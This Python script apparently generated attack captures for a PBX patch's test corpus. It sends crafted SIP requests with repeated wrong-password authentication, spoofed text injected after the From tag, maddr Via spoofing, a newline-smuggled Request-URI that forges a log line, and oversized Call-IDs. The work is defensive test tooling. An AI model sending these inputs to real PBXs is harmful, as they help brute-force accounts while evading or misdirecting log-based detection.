#!/usr/bin/env python3
"""Hand-made SIP requests that reproduce the attacks recorded in tests/corpus/real/.

This is how the real captures were produced (sipp is not packaged in the Debian snapshot the
project builds on, so the requests are written here byte for byte instead of as sipp XML).
It is not run by the test suite: the captures are. It only talks to the address given with
--pbx, which in the lab was a veth address inside a network namespace of our own.

Each attack is one sub-command; every request is printed with the status line of each answer.

    sipattack.py --pbx 10.96.0.1:5060 --local 10.96.0.2:5071 register-wrong --user 100
    sipattack.py ... invite-wrong --user 100 --from-tail ' (192.0.2.1:5060)'
    sipattack.py ... register-wrong --user 100 --maddr 192.0.2.1
    sipattack.py ... guest-invite --ruri-user '1%0A%5BNov...'
    sipattack.py ... invite-wrong --user 100 --pad-callid 9000
"""
import argparse
import hashlib
import random
import re
import socket
import sys


def rnd(n=10):
    return "".join(random.choice("0123456789abcdef") for _ in range(n))


class Dialog:
    def __init__(self, args):
        self.args = args
        self.pbx_host, self.pbx_port = args.pbx.rsplit(":", 1)
        self.pbx_host = self.pbx_host.strip("[]")
        self.pbx_port = int(self.pbx_port)
        lhost, lport = args.local.rsplit(":", 1)
        self.lhost, self.lport = lhost.strip("[]"), int(lport)
        family = socket.AF_INET6 if ":" in self.lhost else socket.AF_INET
        # how a host appears inside SIP (IPv6 references are bracketed)
        self.lref = "[%s]" % self.lhost if family == socket.AF_INET6 else self.lhost
        self.pref = "[%s]" % self.pbx_host if family == socket.AF_INET6 else self.pbx_host
        self.sock = socket.socket(family, socket.SOCK_DGRAM)
        self.sock.bind((self.lhost, self.lport))
        self.sock.settimeout(args.timeout)
        self.call_id = rnd(16) + "@" + self.lref
        if args.pad_callid:
            self.call_id = "c" * args.pad_callid + rnd(8)
        if args.callid:
            self.call_id = args.callid
        self.from_tag = rnd(8)
        self.cseq = 1

    def via(self, branch, maddr):
        v = "SIP/2.0/UDP %s:%d;branch=z9hG4bK%s;rport" % (self.lref, self.lport, branch)
        if maddr:
            v += ";maddr=" + maddr
        return v

    def build(self, method, ruri, to, frm, auth=None, maddr=None, branch=None, cseq=None,
              body=b"", extra=()):
        branch = branch or rnd(12)
        lines = [
            "%s %s SIP/2.0" % (method, ruri),
            "Via: " + self.via(branch, maddr),
            "Max-Forwards: 70",
            "From: %s;tag=%s" % (frm, self.from_tag),
            "To: " + to,
            "Call-ID: " + self.call_id,
            "CSeq: %d %s" % (cseq or self.cseq, method),
            "Contact: <sip:%s@%s:%d>" % (self.args.user, self.lref, self.lport),
            "User-Agent: astpatch-lab",
        ]
        if auth:
            lines.append(auth)
        lines.extend(extra)
        if body:
            lines.append("Content-Type: application/sdp")
        lines.append("Content-Length: %d" % len(body))
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1", "surrogateescape") + body, branch

    def send(self, data):
        first = data.split(b"\r\n", 1)[0]
        print(">>", first[:200].decode("latin-1"), "(%d bytes)" % len(data))
        self.sock.sendto(data, (self.pbx_host, self.pbx_port))

    def recv_final(self):
        """Read answers until a final one (>= 200) or timeout; returns (code, text) or (None, None)."""
        while True:
            try:
                data, _ = self.sock.recvfrom(65535)
            except socket.timeout:
                print("<< (timeout)")
                return None, None
            text = data.decode("latin-1")
            status = text.split("\r\n", 1)[0]
            print("<<", status)
            m = re.match(r"SIP/2.0 (\d{3})", status)
            if not m:
                continue  # a request from the PBX (OPTIONS qualify): ignore
            code = int(m.group(1))
            if code >= 200:
                return code, text


def header(text, name):
    for line in text.split("\r\n"):
        if line.lower().startswith(name.lower() + ":"):
            return line.split(":", 1)[1].strip()
    return ""


def digest(challenge, method, uri, user, password):
    realm = re.search(r'realm="([^"]*)"', challenge).group(1)
    nonce = re.search(r'nonce="([^"]*)"', challenge).group(1)
    ha1 = hashlib.md5(("%s:%s:%s" % (user, realm, password)).encode()).hexdigest()
    ha2 = hashlib.md5(("%s:%s" % (method, uri)).encode()).hexdigest()
    qop = re.search(r'qop="([^"]*)"', challenge)
    if qop:
        nc, cnonce = "00000001", rnd(8)
        resp = hashlib.md5(("%s:%s:%s:%s:auth:%s" % (ha1, nonce, nc, cnonce, ha2)).encode()).hexdigest()
        return ('Digest username="%s",realm="%s",nonce="%s",uri="%s",response="%s",'
                'algorithm=MD5,qop=auth,nc=%s,cnonce="%s"' % (user, realm, nonce, uri, resp, nc, cnonce))
    resp = hashlib.md5(("%s:%s:%s" % (ha1, nonce, ha2)).encode()).hexdigest()
    return ('Digest username="%s",realm="%s",nonce="%s",uri="%s",response="%s",algorithm=MD5'
            % (user, realm, nonce, uri, resp))


SDP = (b"v=0\r\no=- 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\n"
       b"m=audio 40000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n")


def run(args):
    d = Dialog(args)
    host = d.pref
    ruri_user = args.ruri_user if args.ruri_user is not None else args.user
    method = "REGISTER" if args.cmd == "register-wrong" else "INVITE"
    if method == "REGISTER":
        ruri = "sip:%s" % host
        to = "<sip:%s@%s>" % (args.user, host)
    else:
        ruri = "sip:%s@%s" % (ruri_user, host)
        to = "<sip:%s@%s>" % (ruri_user, host)
    display = args.from_display
    frm = '"%s" <sip:%s@%s>' % (display, args.from_user or args.user, host)
    if args.from_tail:
        # the tail goes after the tag parameter, which is where the stock line ends
        d.from_tag = d.from_tag + args.from_tail
    ipv = b"IP6" if ":" in d.lhost else b"IP4"
    body = SDP.replace(b"IP4 {ip}", ipv + b" " + d.lhost.encode()) if method == "INVITE" else b""
    for i in range(args.count):
        if i:
            d.call_id = rnd(16) + "@" + d.lref if not (args.pad_callid or args.callid) else d.call_id + str(i)
            d.from_tag = rnd(8) + (args.from_tail or "")
        d.cseq = 1
        first_maddr = args.maddr if args.maddr_first else None
        data, branch = d.build(method, ruri, to, frm, maddr=first_maddr, body=body)
        d.send(data)
        code, text = d.recv_final()
        if method == "INVITE" and code is not None:
            d.send(d.build("ACK", ruri, header(text, "To"), frm, branch=branch, cseq=d.cseq)[0])
        if code in (401, 407) and args.cmd != "guest-invite":
            hname = "WWW-Authenticate" if code == 401 else "Proxy-Authenticate"
            ahname = "Authorization" if code == 401 else "Proxy-Authorization"
            auth = "%s: %s" % (ahname, digest(header(text, hname), method, ruri,
                                             args.auth_user or args.user, args.password))
            d.cseq += 1
            data, branch = d.build(method, ruri, to, frm, auth=auth, maddr=args.maddr, body=body)
            d.send(data)
            code, text = d.recv_final()
            if method == "INVITE" and code is not None:
                d.send(d.build("ACK", ruri, header(text, "To"), frm, branch=branch, cseq=d.cseq)[0])


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--pbx", required=True)
    p.add_argument("--local", required=True)
    p.add_argument("--timeout", type=float, default=2.0)
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("register-wrong", "invite-wrong", "guest-invite"):
        s = sub.add_parser(name)
        s.add_argument("--user", default="100")
        s.add_argument("--auth-user")
        s.add_argument("--password", default="wrong-password")
        s.add_argument("--from-user")
        s.add_argument("--from-display", default="x")
        s.add_argument("--from-tail", help="text appended after the From tag (ends the stock line)")
        s.add_argument("--ruri-user", help="Request-URI user, sent raw (%%0A stays %%0A on the wire)")
        s.add_argument("--maddr", help="maddr= on the Via of the authenticated request")
        s.add_argument("--maddr-first", action="store_true", help="also on the first request")
        s.add_argument("--pad-callid", type=int, default=0, help="Call-ID of this many bytes")
        s.add_argument("--callid")
        s.add_argument("--count", type=int, default=1)
    args = p.parse_args()
    args.pad_callid = getattr(args, "pad_callid", 0)
    args.ruri_user = getattr(args, "ruri_user", None)
    if args.cmd == "guest-invite":
        args.maddr_first = args.maddr_first or bool(args.maddr)
    if args.from_tail:
        args.from_tail = args.from_tail.encode().decode("unicode_escape")
    run(args)


if __name__ == "__main__":
    sys.exit(main())
